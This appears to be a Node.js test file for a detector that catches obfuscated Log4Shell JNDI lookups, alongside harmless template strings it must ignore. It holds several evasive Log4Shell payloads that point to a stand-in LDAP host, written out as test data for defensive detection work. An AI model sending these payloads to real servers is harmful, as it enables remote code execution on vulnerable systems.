import { test } from 'node:test';
import assert from 'node:assert/strict';
import { everywhere, inspect } from './helpers.js';

// Log4Shell spellings the lookup collapser must see through, and the ${...} texts ordinary traffic carries.

test('JNDI lookups hidden in date literals, base64 lookups and recursive defaults are flagged', () => {
  const attacks = [
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}",
    '${${base64:JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=}}',
    '${${::-${::-$${::-j}}}}',
    '${ctx:${::-$${ctx:user}}}',
  ];
  for (const a of attacks) {
    for (const r of everywhere(a)) {
      const res = inspect(r);
      assert.ok(res.attack && res.findings.some((f) => f.category === 'jndi'), `${a} ${JSON.stringify(r).slice(0, 40)} → ${JSON.stringify(res.findings)}`);
    }
  }
});

test('templates, shell defaults and harmless lookups are not flagged alone', () => {
  for (const b of ["${date:'yyyy-MM-dd'}", '${base64:aGVsbG8gd29ybGQ=}', 'costs $${price}', 'Price: ${amount}', 'Use ${PORT:-3000}', '${hostName}']) {
    for (const r of everywhere(b)) assert.equal(inspect(r).attack, false, `${b} → ${JSON.stringify(inspect(r).findings)}`);
  }
});
